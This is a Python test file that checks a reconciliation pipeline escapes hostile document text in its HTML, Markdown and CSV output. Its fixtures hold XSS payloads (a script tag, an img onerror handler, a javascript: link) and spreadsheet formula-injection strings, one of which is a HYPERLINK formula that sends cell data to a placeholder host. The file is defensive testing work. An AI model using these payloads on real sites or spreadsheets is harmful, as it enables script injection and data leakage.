"""Hostile text from a document (a service name, an explanation, a file name)
reaches the HTML, the Markdown and findings.csv as text: never as markup, a
table cell break, a link, a code span or a spreadsheet formula."""
from __future__ import annotations

import csv
import io
import re

import pytest
from test_reconcile import LUTON, sample_rows

from pipeline.output import store
from pipeline.reconcile import build_view, findings_csv, render_html, render_markdown
from pipeline.reconcile.render import md_code, md_escape
from pipeline.core.spreadsheet import safe_cell

HOSTILE_NAME = "Luton <script>alert('x')</script> | [click](javascript:alert(1)) `tick` *star* & Co"
HOSTILE_QUOTE = 'He said "<b>bold</b>" | <img src=x onerror=alert(1)> &amp; left\nnext line'
HOSTILE_FILE = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


@pytest.fixture(scope="module")
def hostile():
    rows = sample_rows()
    rows["reports"][0]["service_name"] = HOSTILE_NAME
    rows["reports"][0]["source_file"] = HOSTILE_FILE
    rows["findings"][0]["explanation"] = HOSTILE_QUOTE
    rows["findings"][1]["detail"] = "-2+3 points: @SUM(A1:A9)"
    tables = {name: store.to_table(name, rows.get(name, [])) for name in store.TABLES}
    view = build_view(tables)
    return tables, render_html(view), render_markdown(view)


def test_html_shows_hostile_text_as_text(hostile):
    _, page, _ = hostile
    assert page.count("<script") == 1  # the page's own script only
    assert "<b>bold</b>" not in page and "<img" not in page
    assert "Luton &lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; | [click](javascript:alert(1))" in page
    assert "&#34;&lt;b&gt;bold&lt;/b&gt;&#34; | &lt;img src=x onerror=alert(1)&gt; &amp;amp; left" in page
    assert 'href="javascript' not in page


def test_markdown_shows_hostile_text_as_text(hostile):
    _, _, md = hostile
    assert "<script>" not in md and "<b>" not in md and "<img" not in md
    assert "[click](" not in md  # no link can form
    name = md_escape(HOSTILE_NAME)
    assert name == ("Luton &lt;script&gt;alert('x')&lt;/script&gt; \\| \\[click\\](javascript:alert(1)) "
                    "\\`tick\\` \\*star\\* & Co")
    assert f"### {name}" in md
    row = next(line for line in md.splitlines() if line.startswith(f"| {name} | 2018 | 2.1 Assessment"))
    assert len(re.findall(r"(?<!\\)\|", row)) == 11  # ten cells: no pipe of the name splits one
    # the report_id line keeps the file name in a code span, where nothing is markup
    assert f"source file `{HOSTILE_FILE}`" in md


def test_markdown_renders_to_safe_html(hostile):
    markdown_it = pytest.importorskip("markdown_it", reason="markdown-it-py renders the Markdown")
    _, _, md = hostile
    html = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(md)
    assert "<script" not in html and "<img" not in html and "<b>bold" not in html
    assert 'href="javascript' not in html
    assert "Luton &lt;script&gt;alert('x')&lt;/script&gt; | [click](javascript:alert(1)) " \
           "<code>tick</code>" not in html  # backticks stay backticks
    assert "Luton &lt;script&gt;alert('x')&lt;/script&gt; | [click](javascript:alert(1)) `tick` *star* &amp; Co" in html
    # the divergence list keeps its ten columns in every row
    table = html.split('<h2>Divergences from the banding rule</h2>', 1)[1].split("</table>", 1)[0]
    rows = re.findall(r"<tr>(.*?)</tr>", table, re.DOTALL)
    assert len(rows) == 5 and all(len(re.findall(r"<t[dh]", r)) == 10 for r in rows)


@pytest.mark.parametrize("text, escaped", [
    ("# not a heading", "\\# not a heading"),
    ("1. not a list", "1\\. not a list"),
    ("- not a bullet", "\\- not a bullet"),
    ("2.1 Assessment", "2.1 Assessment"),
    ("annex_results", "annex_results"),
    ("_emphasis_", "\\_emphasis\\_"),
    ("a\\b", "a\\\\b"),
    ("&lt;tag&gt; & co", "&amp;lt;tag&amp;gt; & co"),
    ("two\nlines", "two lines"),
    (None, ""),
])
def test_md_escape(text, escaped):
    assert md_escape(text) == escaped


def test_md_code_fences_around_backticks():
    assert md_code("a`b") == "``a`b``"
    assert md_code("`x`") == "`` `x` ``"


def test_findings_csv_cannot_run_a_formula(hostile):
    tables, _, _ = hostile
    rows = list(csv.DictReader(io.StringIO(findings_csv(tables))))
    luton = [r for r in rows if r["report_id"] == LUTON]
    assert luton and all(r["source_file"] == "'" + HOSTILE_FILE for r in luton)
    assert any(r["detail"] == "'-2+3 points: @SUM(A1:A9)" for r in luton)
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize("value, safe", [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Luton", "Luton"), ("", ""), (-3.5, -3.5), (None, None),
])
def test_safe_cell(value, safe):
    assert safe_cell(value) == safe
